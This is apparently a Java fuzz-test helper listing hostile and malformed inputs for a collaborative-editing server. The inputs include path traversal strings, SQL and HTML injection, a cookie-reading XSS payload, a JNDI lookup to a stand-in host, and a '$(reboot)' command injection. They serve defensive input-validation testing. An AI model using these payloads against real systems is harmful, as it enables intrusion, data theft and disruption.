package dev.livepad.testing;

import java.util.List;
import java.util.Random;

/**
 * Inputs that have broken servers before: path traversal, SQL and HTML injection, format strings,
 * control and bidi characters, lone surrogates, and lengths just inside and just past a limit.
 */
public final class HostileStrings {
    private HostileStrings() {
    }

    /** Display names a server must carry verbatim (all within 64 UTF-16 units, no lone surrogates). */
    public static final List<String> NAMES = List.of(
            "", " ", "Alice", "../../etc/passwd", "..\\..\\windows\\system32\\config", "'; DROP TABLE rooms; --",
            "Robert'); DROP TABLE students;--", "\" OR \"1\"=\"1", "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)", "${jndi:ldap://evil.example/x}",
            "%s%s%s%n%x", "{{7*7}}", "null", "undefined", "__proto__", "constructor", "\u0000", "a\u0000b",
            "line\nbreak\r\n", "\t", "\u001b[31mred\u001b[0m", "\u007f\u0080\u009f", "\u202eevil\u202c",
            "zero\u200bwidth", "\ufeffbom", "e\u0301\u0301\u0301", "😀", "😀".repeat(32), "中文名字", "مرحبا بالعالم",
            "\uffff\ufffe", "x".repeat(64), "\\", "\"", "\\u0000", "}{\"type\":\"join\"", "😀x".repeat(21));

    /** Names that are too long: over 64 UTF-16 units. */
    public static final List<String> LONG_NAMES = List.of(
            "x".repeat(65), "😀".repeat(33), "é".repeat(65), "x".repeat(10_000));

    /** Strings holding an unpaired surrogate. */
    public static final List<String> LONE_SURROGATES = List.of(
            "\ud800",
            "\udfff",
            "a\udc00b",
            "😀".substring(0, 1),
            "x" + "😀".substring(1),
            "\ude00\ud83d",
            "\ud83d\ud83d");

    /** Room names outside {@code [A-Za-z0-9._-]{1,64}}, and the URL path steps {@code .} and {@code ..}. */
    public static final List<String> INVALID_ROOMS = List.of(
            "",
            " ",
            "a b",
            "../etc",
            "../../etc/passwd",
            "..%2f..%2f",
            "%2e%2e",
            "a/b",
            "a\\b",
            "x".repeat(65),
            "x".repeat(5_000),
            "ü",
            "😀",
            "\u0000",
            "fuzz\n",
            "fuzz ",
            " fuzz",
            "<script>",
            "'; DROP TABLE rooms;--",
            "room?x=1",
            "room#x",
            "a:b",
            "*",
            "r\u200b",
            "\ud800",
            "room\u0000.txt",
            "CON:",
            "$(reboot)",
            "a;b",
            ".",
            "..");

    /** Room names that are well formed but name no room the fuzz creates. */
    public static final List<String> ODD_VALID_ROOMS = List.of(
            "...", "-", "_", "FUZZ", "x".repeat(64), "a.b-c_d", "0", "--help", ".git");

    /** Frames that are not JSON at all. */
    public static final List<String> NOT_JSON = List.of(
            "{not json", "{", "}", "{\"type\":", "{\"type\":\"ping\"", "{'type':'ping'}", "{type:\"ping\"}",
            "{\"type\":\"ping\",}", "{\"type\":\"ping\" \"t\":1}", "{\"type\":\"ping\",\"t\":NaN}",
            "{\"type\":\"ping\",\"t\":Infinity}", "{\"type\":\"ping\",\"t\":-Infinity}", "{\"type\":\"ping\",\"t\":01}",
            "{\"type\":\"ping\",\"t\":+1}", "{\"type\":\"ping\",\"t\":.5}", "{\"type\":\"ping\",\"t\":1.}",
            "{\"type\":\"ping\",\"t\":0x10}", "{\"type\":\"ping\",\"t\":1e}", "{\"type\":\"ping\",\"t\":\"open}",
            "{\"type\":\"ping\",\"t\":\"bad escape \\x\"}", "{\"type\":\"ping\",\"t\":\"\\u12\"}",
            "{\"type\":\"ping\"/*comment*/}", "// comment\n{\"type\":\"ping\"}", "{\"type\":\"ping\",\"t\":tru}",
            "{\"type\":\"ping\",\"t\":\"raw\u0001control\"}", "{\"a\":[1,2}", "{\"type\":\"ping\",\"t\":[1,]}",
            "{\"type\"=\"ping\"}", "{\"type\":\"ping\";\"t\":1}", "{\"type\":'ping'}", "{,}", "{\"\":}", "\u0000",
            "{\"type\":\"ping\",\"t\":\"\\ud800\\\"}", "[", "]", "\"unterminated", "nul", "{\"type\":\"ping\"]");

    /** Valid JSON that is not an object. */
    public static final List<String> NOT_OBJECTS = List.of(
            "", " ", "\n", "[]", "[1,2,3]", "\"str\"", "\"{\\\"type\\\":\\\"ping\\\"}\"", "42", "-1.5e3", "true",
            "false", "null", "[{\"type\":\"ping\"}]", "[[[[]]]]", "0");

    /** A valid object followed by more text: the frame as a whole is not JSON. */
    public static final List<String> TRAILING = List.of(
            "{\"type\":\"ping\"}}", "{\"type\":\"ping\"} x", "{\"type\":\"ping\"}]", "{\"type\":\"ping\"},",
            "{\"type\":\"ping\"} {\"type\":\"ping\"}", "{\"type\":\"ping\"}garbage", "{\"type\":\"ping\"}\"\"",
            "{\"type\":\"ping\"} 1", "{\"type\":\"ping\"}null");

    /** Numbers too precise or too large for any integer field (over 24 characters). */
    public static final List<String> LONG_NUMBERS = List.of(
            "1" + "0".repeat(30), "-" + "9".repeat(40), "0." + "0".repeat(30) + "1", "1" + "0".repeat(24),
            "12345678901234567890.12345678901234567890");

    /** Numbers that are not JSON integers, or not ones any op component may be. */
    public static final List<String> NON_INTEGERS = List.of(
            "1.0", "1.5", "-2.5", "5e0", "1E2", "1e-2", "-1e3", "1e400", "-0.0", "0.0", "2E+1");

    public static String pick(Random random, List<String> list) {
        return list.get(random.nextInt(list.size()));
    }

    /**
     * A JSON string literal. Quotes, backslashes, control characters and lone surrogates are always
     * escaped (a lone surrogate cannot be sent as UTF-8); other non-ASCII text is escaped only when
     * {@code asciiOnly}, so both the escaped and the raw UTF-8 paths are exercised.
     */
    public static String quote(String text, boolean asciiOnly) {
        StringBuilder out = new StringBuilder(text.length() + 2).append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean pair = Character.isHighSurrogate(c) && i + 1 < text.length()
                    && Character.isLowSurrogate(text.charAt(i + 1));
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c == 0x7f || (Character.isSurrogate(c) && (!pair || asciiOnly))
                    || (asciiOnly && c > 0x7e)) {
                if (pair) {
                    out.append(String.format("\\u%04x\\u%04x", (int) c, (int) text.charAt(++i)));
                } else {
                    out.append(String.format("\\u%04x", (int) c));
                }
            } else if (pair) {
                out.append(c).append(text.charAt(++i));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    public static String quote(String text) {
        return quote(text, false);
    }

    /** Nests {@code inner} in {@code depth} arrays or objects, chosen at random. */
    public static String nest(Random random, int depth, String inner) {
        StringBuilder open = new StringBuilder();
        StringBuilder close = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            if (random.nextBoolean()) {
                open.append('[');
                close.insert(0, ']');
            } else {
                open.append("{\"k\":");
                close.insert(0, '}');
            }
        }
        return open + inner + close;
    }

    public static boolean hasLoneSurrogate(String text) {
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (Character.isHighSurrogate(c) && i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1))) {
                i++;
            } else if (Character.isSurrogate(c)) {
                return true;
            }
        }
        return false;
    }
}
